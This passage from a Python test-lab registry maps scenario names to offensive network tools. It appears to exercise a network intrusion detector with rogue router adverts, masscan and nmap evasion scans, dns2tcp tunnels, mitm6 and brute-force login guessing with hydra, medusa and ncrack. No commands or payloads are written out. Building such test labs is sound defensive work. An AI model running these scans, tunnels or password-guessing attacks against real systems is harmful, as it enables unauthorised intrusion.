        Scenario("rogue_ra_full_evasion", ("atk6-fake_router26",), rogue_ra_full_evasion),
        Scenario("masscan_scan", ("masscan",), masscan_scan),
        Scenario("masscan_sweep", ("masscan",), masscan_sweep),
        Scenario("masscan_udp_scan", ("masscan",), masscan_udp_scan),
        Scenario("arp_scan", ("arp-scan",), arp_scan),
        Scenario("arp_probe_scan", ("arp-scan", "curl"), arp_probe_scan),
        Scenario("netdiscover_sweep", ("netdiscover",), netdiscover_sweep),
        Scenario("nping_timestamp_sweep", ("nping",), nping_timestamp_sweep),
        Scenario("dns2tcp_tunnel", ("dns2tcpc", "dns2tcpd", "curl"), dns2tcp_tunnel),
        Scenario("dns2tcp_key", ("dns2tcpc", "dns2tcpd", "curl"), dns2tcp_key),
        Scenario("dns2tcp_key_direct", ("dns2tcpc", "dns2tcpd", "curl"), dns2tcp_key_direct),
        Scenario("sport53_udp_scan", ("nmap",), sport53_udp_scan),
        Scenario("fragmented_syn_scan", ("nmap",), fragmented_syn_scan),
        Scenario("sctp_init_scan", ("nmap",), sctp_init_scan),
        Scenario("sctp_cookie_scan", ("nmap",), sctp_cookie_scan),
        Scenario("nd_sweep", ("nmap",), nd_sweep),
    ]
}
# Password guessing seen in the servers' replies (tests/lab/logins.py)
SCENARIOS |= {
    s.name: s
    for s in [
        Scenario("http_basic_guess", ("hydra", "busybox"), _logins("http_basic_guess")),
        Scenario("http_basic_slow_guess", ("hydra", "busybox"), _logins("http_basic_slow_guess")),
        Scenario("http_form_guess", ("hydra",), _logins("http_form_guess")),
        Scenario("redis_guess", ("hydra", "redis-server"), _logins("redis_guess")),
        Scenario("login_mistyped", ("busybox", "curl"), _logins("login_mistyped")),
        Scenario("ftp_guess", ("hydra", "vsftpd"), _logins("ftp_guess")),
        Scenario("imap_guess", ("hydra", "dovecot"), _logins("imap_guess")),
        Scenario("pop3_guess", ("hydra", "dovecot"), _logins("pop3_guess")),
        Scenario("postgres_guess", ("hydra", "runuser"), _logins("postgres_guess")),
        Scenario("mariadb_guess", ("hydra", "mariadbd", "mariadb"), _logins("mariadb_guess")),
        Scenario(
            "telnet_guess", ("hydra", "inetutils-inetd", "in.telnetd"), _logins("telnet_guess")
        ),
        Scenario("http_digest_guess", ("hydra", "lighttpd"), _logins("http_digest_guess")),
        Scenario("vnc_guess", ("hydra", "Xvnc", "vncpasswd"), _logins("vnc_guess")),
        Scenario("smtp_guess", ("hydra", "postfix", "dovecot"), _logins("smtp_guess")),
        Scenario("medusa_ssh", ("medusa",), _logins("medusa_ssh")),
        Scenario("medusa_ssh_serial", ("medusa",), _logins("medusa_ssh_serial")),
        Scenario("ncrack_ssh", ("ncrack",), _logins("ncrack_ssh")),
        Scenario("ncrack_ftp", ("ncrack", "vsftpd"), _logins("ncrack_ftp")),
        Scenario("medusa_http_basic", ("medusa", "busybox"), _logins("medusa_http_basic")),
    ]
}
# Floods and guessing variants (tests/lab/scenarios_floods_logins.py, which imports this module)
from tests.lab import scenarios_floods_logins  # noqa: E402

SCENARIOS |= scenarios_floods_logins.SCENARIOS
# DNS tunnel, DHCP and ARP/ND variants (tests/lab/scenarios_dns_l2.py, which imports this module)
from tests.lab import scenarios_dns_l2  # noqa: E402

SCENARIOS |= scenarios_dns_l2.SCENARIOS
# Fragment floods over IPv6 and from random sources (tests/lab/scenarios_fragments.py)
from tests.lab import scenarios_fragments  # noqa: E402

SCENARIOS |= scenarios_fragments.SCENARIOS
# DHCPv6: mitm6, fake_dhcps6, and the school's own server (tests/lab/scenarios_dhcp6.py)
from tests.lab import scenarios_dhcp6  # noqa: E402

SCENARIOS |= scenarios_dhcp6.SCENARIOS
